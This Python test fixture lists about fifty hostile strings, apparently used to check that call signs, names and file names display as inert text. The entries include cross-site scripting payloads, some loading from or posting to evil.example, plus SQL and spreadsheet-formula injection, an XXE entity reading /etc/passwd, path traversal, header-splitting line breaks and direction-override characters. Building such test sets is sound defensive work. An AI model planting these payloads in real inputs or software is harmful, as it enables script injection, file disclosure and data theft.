"""Fifty hostile call signs, names, free words and file names: each must be shown as text, and do
nothing, wherever a person or a program reads it.

``HOSTILE`` is what a writer sends; some of it no interface takes, and those who draw directly get
it all the same. What is dangerous stands beside each, so that whoever finds one on a screen knows
what to look for.
"""

from typing import Final

HOSTILE: Final[tuple[tuple[str, str], ...]] = (
    # Markup, for a page
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("image-onerror", "<img src=x onerror=alert(1)>"),
    ("svg-onload", "<svg/onload=alert(1)>"),
    ("iframe", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("attribute-double", '" onmouseover="alert(1)" x="'),
    ("attribute-single", "' autofocus onfocus='alert(1)"),
    ("attribute-backtick", "`onclick=alert(1)`"),
    ("end-of-title", "</title><script>alert(1)</script>"),
    ("end-of-style", "</style><style>*{display:none}</style>"),
    ("end-of-script", "</script><script>alert(1)//"),
    ("comment", "--><!--<b>"),
    ("entity-twice", "&lt;b&gt;&amp;lt;"),
    ("entity-number", "&#x3c;script&#62;"),
    ("form", "<form action=//evil.example><input name=p></form>"),
    ("base", "<base href=//evil.example/>"),
    ("meta-refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
    # Addresses
    ("javascript", "javascript:alert(1)"),
    ("javascript-mixed", "JaVaScRiPt:alert(document.cookie)"),
    ("data-url", "data:text/html;base64,PHNjcmlwdD4="),
    ("link", "https://evil.example/?a=1&b=2#c"),
    # Templates, formulas, formats
    ("template-braces", "{{constructor.constructor('alert(1)')()}}"),
    ("template-dollar", "${alert(1)}"),
    ("template-percent", "<%= 7*7 %>"),
    ("page-count", "{nb}"),
    ("format", "%s%n%x{0}{time}{party}"),
    ("csv-formula", "=cmd|'/c calc'!A1"),
    ("csv-at", "@SUM(1)"),
    ("sql", "'; DROP TABLE note; --"),
    ("pdf-string", ") Tj ET /JS (app.alert\\(1\\)) \\"),
    ("markdown", "**bold** __under__ [x](javascript:alert(1))"),
    # XML
    ("cdata-end", "]]><evil/>"),
    ("entity-declaration", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    ("processing", "<?xml-stylesheet href='//evil.example'?>"),
    # Lines and paths
    ("line-ends", "HERON\r\nSet-Cookie: a=b\r\n\r\n<b>"),
    ("percent-line-ends", "HERON%0d%0aX: 1"),
    ("path-up", "../../../../etc/passwd"),
    ("path-windows", "..\\..\\CON.pdf"),
    ("control", "A\x00B\x07C\x1b[31mD\x7f"),
    ("surrogate", "A\ud800B"),
    ("separator", "A\u2028B\u2029C"),
    # Directions and marks
    ("override", "HERON\u202e1-NERB\u202c"),
    ("override-open", "\u202eABC 300 m"),
    ("isolate-open", "ABC\u2067 300 m"),
    ("isolate-close", "ABC\u2069\u2069\u2069 300 m"),
    ("marks-of-direction", "\u200f\u200eABC\u061c 300 m"),
    ("mixed", "نسر-1 HERON נץ-2 300 m Беркут"),
    ("zalgo", "H" + "\u0315\u0323\u0341\u0347\u034f" * 12 + "ERON" + "\u0489" * 8),
    # Pictures, and too much of anything
    ("emoji", "\U0001f681\U0001f1f8\U0001f1fe\U0001f468\u200d\u2708\ufe0f HERON"),
    ("long", "W" * 5_000),
)


def named(name: str) -> str:
    """Return one of them."""
    return dict(HOSTILE)[name]
